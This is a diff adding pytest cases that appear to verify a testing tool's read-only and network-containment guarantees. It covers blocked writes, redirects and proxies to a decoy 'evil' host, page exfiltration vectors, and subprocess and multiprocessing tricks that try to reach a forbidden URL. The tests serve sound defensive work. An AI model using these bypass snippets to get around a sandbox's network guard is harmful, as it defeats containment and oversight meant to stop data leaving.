@@ -11,10 +11,13 @@ from collections.abc import Iterator
 
 import pytest
 
-from tests.faults.expected import promote
+from tests.browser.vectors import Neighbourhood
+from tests.faults.expected import Expected, hold, promote
+from tests.faults.namespace import Namespace
 from tests.faults.project import Project, clean_environment
-from tests.faults.server import FaultServer
+from tests.faults.server import Answer, FaultServer, serve
 from tests.faults.store import SUITE, TESTS, Store
+from tests.plugin.test_seat_belt import BYPASSES
 
 SECRET = "token-4f1c09d2"
 
@@ -39,6 +42,159 @@ def _sweep(project: Project) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
         command, cwd=project.folder, env=clean_environment(), capture_output=True, text=True, timeout=60, check=False
     )
+
+
+def _read_only(project: Project, more: str = "", *, services: str = "", policy: str = "deadline: 1m") -> None:
+    project.target(more, services=services, policy=policy)
+    path = project.folder / "targets.yaml"
+    path.write_text(path.read_text(encoding="utf-8").replace("access: read-write", "access: read-only", 1))
+
+
+_WRITES = """
+@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
+def test_a_write(api, method):
+    api.request(method, "/ok/write", json={})
+
+def test_a_read_with_a_body(api):
+    api.request("GET", "/ok/write", content=b"x")
+
+def test_a_write_that_is_swallowed(api):
+    assert api.get("/ok/read").status_code == 200
+    try:
+        api.post("/ok/write")
+    except Exception:
+        pass
+
+@pytest.mark.writes
+def test_that_says_that_it_writes(api):
+    api.post("/ok/write")
+"""
+_DECLARED_WRITES = """
+- {name: declared, get: 'api:/ok/declared', expect: {status: 200}}
+- {name: writes, post: 'api:/ok/write', json: {}, expect: {status: 200}}
+- name: cleans up
+  steps: [{get: 'api:/ok/x', expect: {status: 200}}]
+  finally: [{delete: 'api:/ok/write', expect: {status: 200}}]
+"""
+
+
+@pytest.mark.row("P01", "POST, PUT, PATCH, DELETE, GET with a body, swallowed or not, on a read-only target")
+def test_nothing_is_written(project: Project, server: FaultServer) -> None:
+    """The server's own log has no request that writes; what was refused is told, what says so is skipped."""
+    _read_only(project)
+    project.suite(_DECLARED_WRITES)
+    project.tests(_WRITES)
+    run = project.run()
+    run.require(hold("required_check_not_proven"))
+    assert {seen.method for seen in server.seen} == {"GET"}
+    assert not [seen for seen in server.seen if seen.body]
+    assert server.asked("/ok/write") == 0
+    outcomes = run.outcomes()
+    assert (outcomes["writes"], outcomes["cleans up"], outcomes["declared"]) == ("skipped", "skipped", "passed")
+    assert outcomes["test_that_says_that_it_writes"] == "skipped"
+    assert outcomes["test_a_write_that_is_swallowed"] == "errored"
+    error = next(check for check in run.document["checks"] if check["name"] == "test_a_write[POST]")
+    assert 'allow: ["POST api:/ok/write"]' in error["attempts"][0]["error"]
+
+
+@pytest.mark.row("P02", "redirects 302 and 307 to another host, HTTP_PROXY, ALL_PROXY and .netrc")
+def test_nothing_leaves_for_another_host(project: Project, server: FaultServer) -> None:
+    """Its log is empty: no request, no key, no body; and the environment is nobody to listen to."""
+    with serve("127.0.0.2") as evil:
+        for status in (302, 307):
+            server.on(f"/to/{status}", Answer(status, headers={"location": f"{evil.url}/caught"}))
+        project.suite("""
+            - {name: get, get: 'api:/to/302', follow: true, headers: {X-Api-Key: k}, expect: {status: 200}}
+            - {name: post, post: 'api:/to/307', follow: true, body: password=p, expect: {status: 200}}
+        """)
+        project.tests("""
+            @pytest.mark.parametrize("status", [302, 307])
+            def test_client(api, status):
+                api.post(f"/to/{status}", headers={"X-Api-Key": "k"}, content="password=p", follow_redirects=True)
+
+            def test_plain(api):
+                assert "authorization" not in api.get("/ok/plain").request.headers
+        """)
+        project.write(".netrc", "machine 127.0.0.1 login someone password secret\n")
+        proxies = dict.fromkeys(("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"), evil.url)
+        run = project.run(env=proxies | {"HOME": str(project.folder), "NETRC": str(project.folder / ".netrc")})
+        run.require(hold("required_check_not_proven"))
+        assert evil.seen == []
+    assert run.outcomes()["test_plain"] == "passed"
+    assert not [seen for seen in server.seen if "authorization" in seen.headers]
+
+
+@pytest.fixture(scope="module")
+def around() -> Iterator[Neighbourhood]:
+    """A page that tries every way out, and a server that nobody may reach."""
+    servers = Neighbourhood()
+    yield servers
+    servers.close()
+
+
+@pytest.mark.row("P03", "27 vectors of a page, two of Playwright's client, WebRTC: from a declared check and a test")
+def test_no_page_gets_out(project: Project, around: Neighbourhood) -> None:
+    """No request, no connection, no packet; and nothing is written to the page's own host."""
+    around.forget()
+    _read_only(project, services=f", web: {around.home.url}")
+    project.suite("- {name: page, page: 'web:/', expect: {title: vectors}}")
+    project.tests(f"""
+        def test_page(page, context):
+            page.goto("/")
+            page.wait_for_timeout(800)
+            page.goto("/away")
+            for send in (context.request.post, page.request.delete):
+                with pytest.raises(Exception, match="third_party"):
+                    send("{around.evil.url}/direct")
+    """)
+    run = project.run()
+    run.require(Expected("pass", ("all_required_passed", "passed_with_warnings"), "promote", 0, 0))
+    assert around.reached() == set()
+    assert (around.evil.connections, around.packets) == (0, 0)
+    assert around.written() == []
+
+
+@pytest.mark.row("P04", "sockets, urllib, httpx2, asyncio, threads, processes, ctypes, pycurl, uvloop")
+def test_what_goes_around_is_stopped(project: Project, server: FaultServer) -> None:
+    """Each attempt is an incident, and none has reached the server."""
+    _read_only(project, policy="deadline: 2m")
+    project.suite()
+    host, _, port = server.url.removeprefix("http://").partition(":")
+    facts = f"HOST, PORT, URL = {host!r}, {port}, {server.url + '/caught'!r}\n"
+    facts += "REQUEST = b'GET /caught HTTP/1.0\\r\\n\\r\\n'\n"
+    mark = "@pytest.mark.check(repeatable=False)"
+    tests = "".join(f"\n{mark}\ndef test_{name}():\n    {code}\n" for name, code in BYPASSES.items())
+    project.write("suites/test_it.py", f"import pytest\n{facts}{tests}")
+    run = project.run()
+    run.require(hold("safety_violation"))
+    assert server.asked("/caught") == 0
+    who = [incident["message"].partition(" tried to")[0] for incident in run.document["incidents"]]
+    assert {name.rpartition("::test_")[2] for name in who} == set(BYPASSES)
+
+
+_UNSEEN = {
+    "child": "import subprocess, sys\n"
+    "    subprocess.run([sys.executable, '-c', f'import urllib.request as u; u.urlopen({URL!r})'])",
+    "spawn": "import multiprocessing as m, urllib.request; c = m.get_context('spawn')\n"
+    "    p = c.Process(target=urllib.request.urlopen, args=(URL,)); p.start(); p.join()",
+}
+
+
+@pytest.mark.row("P04", "processes that the hook cannot see, in a network namespace without a route but to the target")
+def test_a_namespace_closes_what_is_left(alone: Project, root: None) -> None:
+    """The documented recipe: the same code reaches the forbidden server without it, and does not with it."""
+    with serve("0.0.0.0") as evil, Namespace("guard") as namespace:
+        port = evil.url.rpartition(":")[2]
+        _read_only(alone, "programs: [python, python3]\n", policy="deadline: 2m")
+        tests = (f"\ndef test_{name}(evidence):\n    evidence('x')\n    {code}\n" for name, code in _UNSEEN.items())
+        body = "".join(tests)
+        alone.write("suites/test_it.py", f"URL = 'http://{namespace.outside}:{port}/caught'\n{body}")
+        alone.suite()
+        alone.run()
+        assert evil.asked("/caught") > 0
+        evil.reset()
+        alone.ended(alone.start([*namespace.prefix, *alone.pytest()]))
+        assert evil.asked("/caught") == 0
 
 
 @pytest.mark.row("P06", "nothing goes wrong: the cleanup leaves nothing, and no ledger")
